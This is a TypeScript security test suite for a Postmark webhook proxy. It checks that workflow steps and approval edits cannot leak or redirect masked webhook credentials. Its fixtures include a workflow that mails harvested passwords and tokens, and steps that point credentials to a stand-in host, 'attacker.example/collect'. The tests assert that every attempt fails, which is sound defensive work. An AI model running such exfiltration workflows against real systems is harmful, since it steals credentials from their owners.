// Webhook credentials must not leak through workflows (issue 9): Postmark's answers reach later
// steps' mappings, stored runs and approval items masked, as the proxy masks them; a step that edits
// a webhook with the masked values keeps the real ones, as a console edit does. Each attack is
// performed through the Hono app against a recording fake Postmark.
import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, it } from "vitest";
import type { ApprovalItem, DecisionResponse } from "../../contract/api/approvals";
import type { RunDetail, WorkflowDetail } from "../../contract/api/workflows";
import type { Role } from "../../contract/api/auth";
import { SESSION_COOKIE } from "../auth/cookie";
import { SECRET_MASK } from "../proxy/secret-mask";
import { startFakeUpstream, type FakeUpstream, type Seen } from "../test-support/fake-upstream";
import { sqliteTestStore, type TestStore } from "../test-support/databases";
import { appOnStore, bouncePayload, until, upstreamHandler, type TestApp } from "../test-support/workflow-harness";

const PASSWORD = "intake-password-Zq81";
const HEADER_SECRET = "header-secret-Kp02";
const INBOUND_SECRET = "inbound-secret-Xw33";
const SECRETS = [PASSWORD, HEADER_SECRET, INBOUND_SECRET];
const HOOK_URL = "https://hooks.example.com/postmark";

const webhook = () => ({
  ID: 5,
  Url: HOOK_URL,
  MessageStream: "outbound",
  HttpAuth: { Username: "mailroom", Password: PASSWORD },
  HttpHeaders: [{ Name: "X-Token", Value: HEADER_SECRET }],
  Triggers: { Delivery: { Enabled: true } },
});

function postmark(req: Seen) {
  const path = req.url.split("?")[0]!;
  if (path === "/webhooks" && req.method === "GET") return { body: { Webhooks: [webhook()] } };
  if (path === "/webhooks/5" && req.method === "GET") return { body: webhook() };
  if (path === "/webhooks/5" && req.method === "PUT")
    return { body: { ...webhook(), ...(JSON.parse(req.body) as object) } };
  if (path === "/server" && req.method === "GET")
    return {
      body: { ID: 1, Name: "Main", InboundHookUrl: `https://mailroom:${INBOUND_SECRET}@mailroom.example.com/in` },
    };
  if (path === "/email" && req.method === "POST")
    return { body: { ErrorCode: 0, Message: "OK", MessageID: "m-1", To: "ops@lumenapp.io" } };
  return null;
}

const step = (id: string, operationId: string, extra: Record<string, unknown> = {}) => ({
  id,
  kind: "action",
  operationId,
  approval: "auto",
  ...extra,
});

/** Lists webhooks, reads the server, then mails every credential it could reach to ops. */
const exfiltrateDoc = () => ({
  version: 1,
  name: "Mail the secrets",
  trigger: { type: "bounce" },
  steps: [
    step("hooks", "webhooks.list"),
    step("srv", "server.get"),
    step("tell", "email.send", {
      body: {
        From: "mailroom@lumenapp.io",
        To: "ops@lumenapp.io",
        Subject: { $map: { from: "step:hooks", path: "Webhooks[0].HttpAuth.Password" } },
        TextBody: {
          $template:
            "pw={{step:hooks.Webhooks[0].HttpAuth.Password}} header={{step:hooks.Webhooks[0].HttpHeaders[0].Value}} inbound={{step:srv.InboundHookUrl}}",
        },
      },
    }),
  ],
});

/** Reads webhook 5 and saves it back with its (masked) credentials, to `url`. */
const resaveDoc = (url: unknown = { $map: { from: "step:hook", path: "Url" } }) => ({
  version: 1,
  name: "Turn off delivery hooks",
  trigger: { type: "bounce" },
  steps: [
    step("hook", "webhooks.get", { params: { webhookid: 5 } }),
    step("save", "webhooks.update", {
      params: { webhookid: 5 },
      body: {
        Url: url,
        HttpAuth: { $map: { from: "step:hook", path: "HttpAuth" } },
        HttpHeaders: { $map: { from: "step:hook", path: "HttpHeaders" } },
        Triggers: { Delivery: { Enabled: false } },
      },
    }),
  ],
});

/** An admin's step that sets a webhook's credentials, waiting for approval. */
const credentialsDoc = () => ({
  version: 1,
  name: "Set hook credentials",
  trigger: { type: "bounce" },
  steps: [
    step("save", "webhooks.update", {
      params: { webhookid: 5 },
      body: { Url: HOOK_URL, HttpAuth: { Username: "mailroom", Password: PASSWORD } },
      approval: "required",
    }),
  ],
});

const bodies = (seen: Seen[]) => seen.map((s) => s.body).join("\n");
const leaks = (text: string) => SECRETS.filter((s) => text.includes(s));

describe("webhook secrets through workflows and approvals (security)", () => {
  let up: FakeUpstream;
  let db: TestStore & { dir: string };
  let t: TestApp;
  let admin: string;
  let operator: string;
  let operator2: string;
  let viewer: string;

  beforeAll(async () => {
    up = await startFakeUpstream(upstreamHandler(postmark));
  });
  afterAll(async () => up.close());
  beforeEach(async () => {
    up.reset();
    up.reply(upstreamHandler(postmark));
    db = await sqliteTestStore();
    t = await appOnStore({ store: db.store, dir: db.dir, upstreamUrl: up.url });
    admin = await t.login();
    operator = await signedIn("olga", "operator");
    operator2 = await signedIn("oscar", "operator");
    viewer = await signedIn("victor", "viewer");
  });
  afterEach(async () => {
    await t.engine.stop();
    await db.cleanup();
  });

  async function signedIn(username: string, role: Role) {
    const row = await db.store.users.create({
      username,
      role,
      passwordHash: "not-a-hash",
      now: new Date(t.clock()).toISOString(),
    });
    const session = await t.services.sessions.create(Number(row.id), null);
    return `${SESSION_COOKIE}=${session.id}`;
  }

  const post = (path: string, cookie: string, json: unknown = {}) => t.request(path, { method: "POST", cookie, json });
  async function createEnabled(cookie: string, doc: unknown) {
    const res = await post("/api/workflows", cookie, doc);
    expect(res.status).toBe(201);
    const wf = (await res.json()) as WorkflowDetail;
    expect((await post(`/api/workflows/${wf.id}/enable`, cookie)).status).toBe(200);
    t.engine.invalidate();
    return wf.id;
  }
  const runText = async (id: number) => (await t.request(`/api/runs/${id}`, { cookie: viewer })).text();
  const settled = (id: number) =>
    until(async () => {
      const r = JSON.parse(await runText(id)) as RunDetail;
      return r.status !== "queued" && r.status !== "running" ? r : null;
    });
  const bounce = (id: number) => ({ id, trigger: "bounce" as const, serverId: 1, payload: bouncePayload({ ID: id }) });
  const storedSteps = async () =>
    JSON.stringify(await db.store.db.selectFrom("workflow_run_steps").selectAll().execute());
  const puts = () => up.seen.filter((s) => s.method === "PUT" && s.url.startsWith("/webhooks/5"));

  for (const author of ["operator", "admin"] as const) {
    it(`an ${author}'s workflow cannot mail webhook credentials it read (HttpAuth, header values, InboundHookUrl)`, async () => {
      await createEnabled(author === "admin" ? admin : operator, exfiltrateDoc());
      const [runId] = await t.engine.startRuns(bounce(1));
      const run = await settled(runId!);

      // The secrets reached no one: not Postmark (no send went out), not the run view, not the store.
      expect(leaks(bodies(up.seen.filter((s) => s.method !== "GET")))).toEqual([]);
      expect(up.seen.filter((s) => s.url === "/email")).toEqual([]);
      expect(leaks(await runText(runId!))).toEqual([]);
      expect(leaks(await storedSteps())).toEqual([]);
      // The mapping saw what a browser sees, and the send holding the mask was refused like a console send.
      expect(run.status).toBe("failed");
      const tell = run.steps.find((s) => s.stepId === "tell")!;
      expect(tell.status).toBe("failed");
      expect(tell.error).toMatchObject({ code: "validation_failed" });
      expect(tell.error!.message).toContain(`holds the masked value ${SECRET_MASK}`);
      expect(JSON.stringify(tell.request)).toContain(`pw=${SECRET_MASK}`);
      expect(JSON.stringify(tell.request)).toContain(`https://${SECRET_MASK}@mailroom.example.com/in`);
    });
  }

  it("a run resumed after an approval reads earlier answers masked, even ones stored unmasked by an older Mailroom", async () => {
    const doc = exfiltrateDoc();
    const ask = step("ask", "email.send", {
      body: { From: "mailroom@lumenapp.io", To: "ops@lumenapp.io", Subject: "Go on?", TextBody: "ok" },
      approval: "required",
    });
    const tell = step("tell", "email.send", {
      body: {
        From: "mailroom@lumenapp.io",
        To: "ops@lumenapp.io",
        Subject: "Hooks",
        TextBody: { $template: "pw={{step:hooks.Webhooks[0].HttpAuth.Password}}" },
      },
    });
    await createEnabled(admin, { ...doc, steps: [doc.steps[0], ask, tell] });
    const [runId] = await t.engine.startRuns(bounce(1));
    const item = await until(
      async () =>
        ((await (await t.request("/api/approvals", { cookie: viewer })).json()) as { approvals: ApprovalItem[] })
          .approvals[0],
    );
    // As a run parked before answers were masked at rest holds them.
    await db.store.db
      .updateTable("workflow_run_steps")
      .set({ response: JSON.stringify({ Webhooks: [webhook()] }) })
      .where("run_id", "=", runId!)
      .where("step_id", "=", "hooks")
      .execute();
    const res = await post(`/api/approvals/${item.id}/approve`, operator);
    expect(((await res.json()) as DecisionResponse).executed).toBe(true);
    const run = await settled(runId!);
    const sends = up.seen.filter((s) => s.url === "/email");
    expect(sends).toHaveLength(1);
    expect(JSON.parse(sends[0]!.body)).toMatchObject({ Subject: "Go on?" });
    expect(leaks(bodies(up.seen))).toEqual([]);
    expect(run.steps.find((s) => s.stepId === "tell")).toMatchObject({
      status: "failed",
      error: { code: "validation_failed" },
    });
  });

  it("a step that saves a webhook back with the masked credentials keeps the real ones", async () => {
    await createEnabled(operator, resaveDoc());
    const [runId] = await t.engine.startRuns(bounce(1));
    expect((await settled(runId!)).status).toBe("succeeded");
    expect(puts()).toHaveLength(1);
    expect(JSON.parse(puts()[0]!.body)).toEqual({
      Url: HOOK_URL,
      HttpAuth: { Username: "mailroom", Password: PASSWORD },
      HttpHeaders: [{ Name: "X-Token", Value: HEADER_SECRET }],
      Triggers: { Delivery: { Enabled: false } },
    });
    // Stored and shown masked all the same.
    expect(leaks(await runText(runId!))).toEqual([]);
    expect(leaks(await storedSteps())).toEqual([]);
  });

  it("a step that moves the masked credentials to another URL is refused before anything is sent", async () => {
    await createEnabled(operator, resaveDoc("https://attacker.example/collect"));
    const [runId] = await t.engine.startRuns(bounce(1));
    const run = await settled(runId!);
    expect(run.status).toBe("failed");
    expect(run.steps.find((s) => s.stepId === "save")!.error).toMatchObject({ code: "validation_failed" });
    expect(puts()).toEqual([]);
    expect(leaks(bodies(up.seen))).toEqual([]);
  });

  it("a parked request's credentials are masked in the queue, the item and its edit diff; an edit keeps them", async () => {
    await createEnabled(admin, credentialsDoc());
    await t.engine.startRuns(bounce(1));
    const list = await until(async () => {
      const res = await t.request("/api/approvals", { cookie: viewer });
      const text = await res.text();
      return (JSON.parse(text) as { approvals: ApprovalItem[] }).approvals.length ? text : null;
    });
    expect(leaks(list)).toEqual([]);
    const [item] = (JSON.parse(list) as { approvals: ApprovalItem[] }).approvals;
    expect(item!.request.body).toMatchObject({ HttpAuth: { Username: "mailroom", Password: SECRET_MASK } });
    const one = await (await t.request(`/api/approvals/${item!.id}`, { cookie: viewer })).text();
    expect(leaks(one)).toEqual([]);

    // An operator edits the triggers and sends the masked password back as shown: the real one is kept.
    const shown = item!.request.body as Record<string, unknown>;
    const edited = await post(`/api/approvals/${item!.id}/approve`, operator, {
      body: { ...shown, Triggers: { Delivery: { Enabled: false } } },
    });
    expect(edited.status).toBe(200);
    const editedText = await edited.text();
    expect(leaks(editedText)).toEqual([]);
    const after = (JSON.parse(editedText) as DecisionResponse).approval;
    expect(after.edit!.changes).toEqual([
      { path: "body.Triggers", kind: "added", after: { Delivery: { Enabled: false } } },
    ]);
    expect(after.edit!.original.body).toMatchObject({ HttpAuth: { Password: SECRET_MASK } });

    // Moving the masked password to another URL in an edit is refused.
    const moved = await post(`/api/approvals/${item!.id}/approve`, operator, {
      body: { ...shown, Url: "https://attacker.example/collect" },
    });
    expect(moved.status).toBe(400);

    const approved = await post(`/api/approvals/${item!.id}/approve`, operator2);
    expect(((await approved.json()) as DecisionResponse).executed).toBe(true);
    expect(puts()).toHaveLength(1);
    expect(JSON.parse(puts()[0]!.body)).toMatchObject({
      Url: HOOK_URL,
      HttpAuth: { Username: "mailroom", Password: PASSWORD },
      Triggers: { Delivery: { Enabled: false } },
    });
  });

  it("a changed secret in an edit shows as a change, masked on both sides", async () => {
    await createEnabled(admin, credentialsDoc());
    await t.engine.startRuns(bounce(1));
    const item = await until(
      async () =>
        ((await (await t.request("/api/approvals", { cookie: viewer })).json()) as { approvals: ApprovalItem[] })
          .approvals[0],
    );
    const res = await post(`/api/approvals/${item.id}/approve`, operator, {
      body: { Url: HOOK_URL, HttpAuth: { Username: "mailroom", Password: "new-password-Pq77" } },
    });
    const text = await res.text();
    expect(text).not.toContain("new-password-Pq77");
    expect(leaks(text)).toEqual([]);
    expect((JSON.parse(text) as DecisionResponse).approval.edit!.changes).toEqual([
      { path: "body.HttpAuth.Password", kind: "changed", before: SECRET_MASK, after: SECRET_MASK },
    ]);
  });
});
